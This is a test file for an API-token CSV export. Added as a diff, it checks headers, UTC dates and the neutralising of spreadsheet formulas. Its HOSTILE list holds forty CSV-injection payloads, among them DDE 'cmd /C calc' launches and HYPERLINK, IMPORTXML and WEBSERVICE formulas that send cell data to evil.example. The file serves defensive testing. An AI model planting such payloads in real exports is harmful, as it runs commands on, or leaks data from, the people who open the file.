@@ -1,0 +1,161 @@
+// The CSV file: what a spreadsheet, a parser and an attacker make of it.
+import Papa from 'papaparse';
+import { describe, expect, it } from 'vitest';
+import type { AuditRow } from '../../domain/audit/audit-view.ts';
+import type { Token } from '../../domain/token.ts';
+import { tokenCsv } from './token-csv.ts';
+
+const NOW = new Date('2026-03-10T12:00:00Z');
+
+const TOKEN: Token = {
+  id: '5Yo3XXnrQpjc20u0ybrf2g',
+  userId: '4y5K5trZocEAQYkesWlk7M',
+  customerId: 'x4xCwxxJxGCx123Rx5xTx1',
+  name: 'CI deploy',
+  scopes: ['purge_all', 'global:read'],
+  access: { kind: 'limited', serviceIds: ['7i6HN3TK9wS159v2gPAZ8A', 'd0aw205U9PCGTwHVlim6q'] },
+  createdAt: new Date('2025-11-18T20:59:08Z'),
+  lastUsedAt: new Date('2026-03-09T21:03:08Z'),
+  lastUsedIp: '2001:db8::7',
+  lastUsedClient: 'curl/8.7.1',
+  expiresAt: new Date('2026-05-16T23:59:59Z'),
+  sudoExpiresAt: null,
+  automation: null,
+};
+
+const OWNER = {
+  id: TOKEN.userId,
+  name: 'Sana Ueda',
+  login: 'superuser@example.com',
+  role: 'superuser',
+  customerId: TOKEN.customerId,
+  twoFactor: false,
+  locked: false,
+  lastActiveAt: null,
+} as const;
+
+function row(changes: Partial<Token> = {}, owner: AuditRow['owner'] = OWNER): AuditRow {
+  return { token: { ...TOKEN, ...changes }, owner, selected: false };
+}
+
+/** The cells, by column, as any reader of RFC 4180 sees them. */
+function read(csv: string): Record<string, string>[] {
+  const { data, errors } = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
+  expect(errors).toEqual([]);
+  return data;
+}
+
+/** What has been used to run code in a spreadsheet, and what breaks careless writers. */
+const HOSTILE = [
+  '=1+1',
+  '=cmd|"/C calc"!A0',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
+  '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
+  '=WEBSERVICE("https://evil.example/"&A1)',
+  '=IMAGE("https://evil.example/x.png")',
+  '=DDE("cmd";"/C calc";"__DdeLink_1")',
+  '=2+5+cmd|" /C calc"!A0',
+  '=1\n+1',
+  '=1\r\n+1',
+  '+1+1',
+  '+cmd|"/C calc"!A0',
+  '+44 20 7946 0000',
+  '-1+1',
+  '-2+3+cmd|" /C calc"!A0',
+  '-',
+  '@SUM(1+1)*cmd|"/C calc"!A0',
+  '@here',
+  '\t=1+1',
+  '\tindented',
+  '\r=1+1',
+  '\r',
+  '"=1+1"',
+  '"',
+  '""',
+  'a,b',
+  'a;b',
+  'a\tb',
+  'a"b',
+  'a\nb',
+  'a\r\nb',
+  ' =1+1',
+  ' leading and trailing ',
+  "'=1+1",
+  '\u0000=1+1',
+  '\uFEFF=1+1',
+  '＝1+1',
+  '%0A=1+1',
+  'naïve ダッシュボード 🔑',
+] as const;
+
+describe('the CSV file', () => {
+  it('starts with a byte order mark, ends its lines with CRLF, and names each column', () => {
+    const csv = tokenCsv([row()], NOW);
+    expect(csv.startsWith('\uFEFFid,name,type,status,owner,owner_login,owner_id,role,')).toBe(true);
+    expect(csv.endsWith('\r\n')).toBe(true);
+    expect(csv.split('\r\n')).toHaveLength(3);
+  });
+
+  it('says of each token who owns it, what it can do, and when, in UTC', () => {
+    expect(read(tokenCsv([row()], NOW))).toEqual([
+      {
+        id: '5Yo3XXnrQpjc20u0ybrf2g',
+        name: 'CI deploy',
+        type: 'User token',
+        status: 'Active',
+        owner: 'Sana Ueda',
+        owner_login: 'superuser@example.com',
+        owner_id: '4y5K5trZocEAQYkesWlk7M',
+        role: 'superuser',
+        tls_management: '',
+        scopes: 'purge_all global:read',
+        access: 'limited',
+        services: '7i6HN3TK9wS159v2gPAZ8A d0aw205U9PCGTwHVlim6q',
+        created_at: '2025-11-18T20:59:08Z',
+        last_used_at: '2026-03-09T21:03:08Z',
+        last_used_ip: '2001:db8::7',
+        last_used_client: 'curl/8.7.1',
+        expires_at: '2026-05-16T23:59:59Z',
+        can_do:
+          'This token can both purge everything and read account information, configuration and stats on 2 services until 16 May 2026, 23:59 UTC. The limit does not cover account-level endpoints, which the token can read too. It cannot change configuration.',
+      },
+    ]);
+  });
+
+  it('tells an automation token, one that never ends and was never used, and an owner who is gone', () => {
+    const automation = { role: 'engineer', tlsManagement: true } as const;
+    const changes = { automation, expiresAt: null, lastUsedAt: null, access: { kind: 'all' } } as const;
+    expect(read(tokenCsv([row(changes, null)], NOW))).toEqual([
+      expect.objectContaining({
+        type: 'Automation token',
+        status: 'Active; Never expires; Never used',
+        owner: '',
+        role: 'engineer',
+        tls_management: 'yes',
+        access: 'all services',
+        services: '',
+        last_used_at: 'never',
+        expires_at: 'never',
+      }),
+    ]);
+  });
+
+  it('has a header even when nothing is in it', () => {
+    expect(tokenCsv([], NOW)).toMatch(/^\uFEFFid,name,.*,can_do\r\n$/);
+  });
+
+  it.each(HOSTILE)('neither runs nor changes a name such as %j', name => {
+    const [cells] = read(tokenCsv([row({ name, lastUsedClient: name }, { ...OWNER, name })], NOW));
+    const isFormula = ['=', '+', '-', '@', '\t', '\r'].some(start => name.startsWith(start));
+    const expected = isFormula ? `'${name}` : name;
+    expect([cells?.name, cells?.last_used_client, cells?.owner]).toEqual([expected, expected, expected]);
+  });
+
+  it('knows forty ways of attack', () => expect(new Set(HOSTILE).size).toBe(40));
+
+  it('leaves dates and ids as they are', () => {
+    const [cells] = read(tokenCsv([row({ name: '=1+1' })], NOW));
+    expect(cells).toMatchObject({ created_at: '2025-11-18T20:59:08Z', id: '5Yo3XXnrQpjc20u0ybrf2g' });
+  });
+});
